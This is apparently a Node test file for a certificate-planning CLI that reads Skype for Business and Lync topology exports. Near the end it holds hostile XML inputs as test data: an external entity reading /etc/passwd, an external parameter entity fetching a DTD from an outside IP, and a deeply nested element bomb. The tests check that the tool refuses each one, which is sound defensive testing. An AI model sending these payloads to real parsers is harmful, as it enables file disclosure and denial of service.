// Topology documents as administrators have them: Get-CsTopology -AsXml in every encoding
// PowerShell writes, Topology Builder .tbxml, the Export-CsConfiguration ZIP, simple URLs from
// Get-CsSimpleUrlConfiguration | ConvertTo-Json; what each holds beyond pools (XMPP, Edge ports,
// mobility, Office Web Apps, reverse proxy, Director, branch, collocated Mediation); validation
// errors that name the XML location; hostile XML refused as input (issue 9 item 19).

import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { readTopologyFile } from '../src/topology/read-topology.js';
import { makeTempDir } from './ca-test-support.js';
import { buildTopologyForms } from './fixtures/make-topology-forms.js';
import { runUccert } from './support/cli-run.js';
import { assertGolden } from './support/golden.js';
import { repoPath, repoRoot } from './support/repo.js';

const forms = 'test/fixtures/forms';

test('make-topology-forms: the checked-in fixtures are exactly what the script builds', () => {
  for (const [name, bytes] of Object.entries(buildTopologyForms())) {
    assert.deepEqual(
      new Uint8Array(readFileSync(repoPath(`${forms}/${name}`))),
      new Uint8Array(bytes),
      `${name} differs: run node dist/test/fixtures/make-topology-forms.js`,
    );
  }
});

const encodings = [
  ['get-cstopology-utf8.xml', 'UTF-8'],
  ['get-cstopology-utf8-bom-crlf.xml', 'UTF-8 with a BOM'],
  ['get-cstopology-utf16le.xml', 'UTF-16LE'],
  ['get-cstopology-utf16be.xml', 'UTF-16BE'],
] as const;

test('Get-CsTopology -AsXml in every encoding PowerShell writes: the same plan, the encoding said', async () => {
  const plans: string[] = [];
  for (const [file, encoding] of encodings) {
    const t = await runUccert(['plan', `${forms}/${file}`, '--json']);
    assert.equal(t.exitCode, 0, `${file}: ${t.stderr}`);
    if (encoding !== 'UTF-8') assert.match(t.stderr, new RegExp(`encoding: ${encoding}\\n`));
    const plan = JSON.parse(t.stdout) as { requirements: unknown; certificates: unknown };
    plans.push(JSON.stringify([plan.requirements, plan.certificates]));
  }
  assert.equal(new Set(plans).size, 1);
});

test('plan of Get-CsTopology -AsXml (UTF-16LE, as Windows PowerShell 5.1 writes it), with every assumption', async () => {
  const t = await runUccert(['plan', `${forms}/get-cstopology-utf16le.xml`]);
  assert.equal(t.exitCode, 0, t.stderr);
  assertGolden('plan-form-get-cstopology', t);
});

test('what the XML holds beyond pools: XMPP, Edge ports, mobility, Office Web Apps, reverse proxy, Director, branch, collocated Mediation', async () => {
  const { topology, provenance } = await readTopologyFile(`${forms}/get-cstopology-utf8.xml`, repoRoot);
  const edge = topology.pools.find((p) => p.role === 'edge');
  // A single-IP Edge: Access Edge on 5061, web conferencing on 444 (the Port elements).
  assert.equal(edge?.ports.accessEdge, 5061);
  assert.equal(edge?.ports.webConfEdge, 444);
  assert.deepEqual(topology.xmppDomains, ['contoso.com', 'fabrikam.com']);
  assert.equal(topology.mobility, true);
  assert.equal(topology.reverseProxy?.officeWebApps, 'wac.contoso.com');
  assert.deepEqual(
    topology.pools.map((p) => [p.fqdn, p.role]),
    [
      ['pool01.contoso.net', 'frontEnd'],
      ['dirpool.contoso.net', 'director'],
      ['edgepool.contoso.net', 'edge'],
      ['sba01.contoso.net', 'branch'],
    ],
  );
  assert.deepEqual(provenance.ignoredClusters, [
    { fqdn: 'wac.contoso.net', why: 'WacService' },
    { fqdn: 'sql01.contoso.net', why: 'no services' },
  ]);
  assert.ok(
    provenance.read.includes(
      'pool01.contoso.net: Mediation collocated with the Front End (no certificate of its own)',
    ),
  );
  const plan = await runUccert(['plan', `${forms}/get-cstopology-utf8.xml`, '--json']);
  const p = JSON.parse(plan.stdout) as {
    requirements: { server: string; use: string; requiredNames: string[] }[];
  };
  assert.ok(p.requirements.some((r) => r.server === 'edge01.contoso.net' && r.use === 'XmppServer'));
  const fe = p.requirements.find((r) => r.server === 'fe01.contoso.net' && r.use === 'WebServicesExternal');
  assert.ok(fe?.requiredNames.includes('lyncdiscover.fabrikam.com'));
  const rp = p.requirements.find((r) => r.server === 'reverse-proxy');
  assert.ok(rp?.requiredNames.includes('webext.contoso.com'));
});

test('plan of a Topology Builder .tbxml (SfB 2019): Machine without Fqdn, UniqueId references, its SimpleUrlConfiguration', async () => {
  const t = await runUccert(['plan', `${forms}/topology-builder-sfb2019.tbxml`]);
  assert.equal(t.exitCode, 0, t.stderr);
  assert.match(t.stderr, /simpleUrls\.admin: https:\/\/admin\.contoso\.com \(SimpleUrlConfiguration\)/);
  assertGolden('plan-form-topology-builder', t);
});

test('plan of a Lync 2010 .tbxml (ServiceVersion 5) as JSON: the product and where it came from', async () => {
  const t = await runUccert(['plan', `${forms}/topology-builder-lync2010.tbxml`, '--json']);
  assert.equal(t.exitCode, 0, t.stderr);
  const plan = JSON.parse(t.stdout) as { topology: Record<string, unknown> };
  assert.deepEqual(plan.topology.product, {
    value: 'lync2010',
    from: `ServiceVersion of the Registrar services in ${forms}/topology-builder-lync2010.tbxml`,
  });
  assert.equal(plan.topology.format, 'tbxml');
  assert.deepEqual(plan.topology.pools, [{ fqdn: 'se01.contoso.com', role: 'frontEnd' }]);
  assert.deepEqual(plan.topology.sipDomains, ['contoso.com']);
});

test('plan of the Export-CsConfiguration ZIP (Lync 2013): topology and simple URLs from it', async () => {
  const t = await runUccert([
    'plan',
    `${forms}/cs-configuration-lync2013.zip`,
    '--server',
    'fe01.contoso.net',
  ]);
  assert.equal(t.exitCode, 0, t.stderr);
  assertGolden('plan-form-configuration-zip', t);
});

test('--simple-urls reads Get-CsSimpleUrlConfiguration | ConvertTo-Json from PowerShell 5.1 (UTF-16LE, depth 2) and 7', async () => {
  for (const file of ['simple-urls-ps51.json', 'simple-urls-ps7.json']) {
    const t = await runUccert([
      'plan',
      `${forms}/get-cstopology-utf8.xml`,
      '--simple-urls',
      `${forms}/${file}`,
      '--json',
    ]);
    assert.equal(t.exitCode, 0, `${file}: ${t.stderr}`);
    assert.match(
      t.stderr,
      /simpleUrls\.meet: https:\/\/meet\.contoso\.com, https:\/\/meet\.fabrikam\.com \(--simple-urls/,
    );
    assert.match(t.stderr, /simpleUrls\.admin: https:\/\/admin\.contoso\.com \(--simple-urls/);
    assert.doesNotMatch(t.stderr, /Topology Builder's default/);
  }
});

test('a Meet URL missing for one SIP domain is an assumption for a topology XML, naming the domain', async () => {
  const t = await runUccert([
    'plan',
    `${forms}/get-cstopology-utf8.xml`,
    '--meet',
    'https://meet.contoso.com',
    '--dialin',
    'https://dialin.contoso.com',
    '--json',
  ]);
  assert.equal(t.exitCode, 0, t.stderr);
  assert.match(
    t.stderr,
    /simpleUrls\.meet: https:\/\/meet\.fabrikam\.com \(Topology Builder's default for SIP domain fabrikam\.com, which had none\)/,
  );
});

test('a topology validation error names the XML element and attribute as well as the key path', async () => {
  const dir = makeTempDir('topology-forms');
  const xml = readFileSync(repoPath(`${forms}/get-cstopology-utf8.xml`), 'utf8').replace(
    'Fqdn="fe02.contoso.net" FaultDomain',
    'Fqdn="fe_02.contoso.net" FaultDomain',
  );
  writeFileSync(join(dir, 'bad.xml'), xml);
  const t = await runUccert(['plan', join(dir, 'bad.xml')]);
  assert.equal(t.exitCode, 2);
  assert.match(
    t.stderr,
    /pools\[0\]\.servers\[1\] \(XML: Clusters\/Cluster\[1\]\[Fqdn="pool01\.contoso\.net"\]\/Machine\[2\]\/@Fqdn\): "fe_02\.contoso\.net" is not a valid host name/,
  );
});

test('an Export-CsConfiguration ZIP without a topology, and a broken ZIP: exit 2 saying what was searched', async () => {
  const dir = makeTempDir('topology-forms');
  const zip = readFileSync(repoPath(`${forms}/cs-configuration-lync2013.zip`));
  writeFileSync(join(dir, 'cut.zip'), zip.subarray(0, 200));
  const cut = await runUccert(['plan', join(dir, 'cut.zip')]);
  assert.equal(cut.exitCode, 2, cut.stderr);
  assert.match(cut.stderr, /is not a readable ZIP/);
});

// Issue 9 item 19: each was an exit 70 with the parser's own message.
const hostile: readonly [label: string, xml: () => string, message: RegExp][] = [
  [
    'an external entity',
    () =>
      '<?xml version="1.0"?><!DOCTYPE Topology [<!ENTITY x SYSTEM "file:///etc/passwd">]><Topology xmlns="urn:schema:Microsoft.Rtc.Management.Deploy.Topology.2008">&x;</Topology>',
    /contains a DOCTYPE declaring an external entity \(x SYSTEM "file:\/\/\/etc\/passwd"\); uccert refuses DTDs and entities/,
  ],
  [
    'a parameter entity',
    () =>
      '<?xml version="1.0"?><!DOCTYPE Topology [<!ENTITY % p SYSTEM "http://203.0.113.9/x.dtd"> %p;]><Topology/>',
    /contains a DOCTYPE declaring an external parameter entity \(p SYSTEM "http:\/\/203\.0\.113\.9\/x\.dtd"\)/,
  ],
  [
    '100,000 nested tags',
    () => `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`,
    /nests elements more than 64 deep; uccert refuses it/,
  ],
];

for (const [label, xml, message] of hostile) {
  test(`XML topology with ${label}: an input error (exit 2) saying what it contains, never exit 70`, async () => {
    const dir = makeTempDir('topology-hostile');
    writeFileSync(join(dir, 'hostile.xml'), xml());
    const t = await runUccert(['plan', join(dir, 'hostile.xml')]);
    assert.equal(t.exitCode, 2, t.stderr);
    assert.match(t.stderr, message);
  });
}
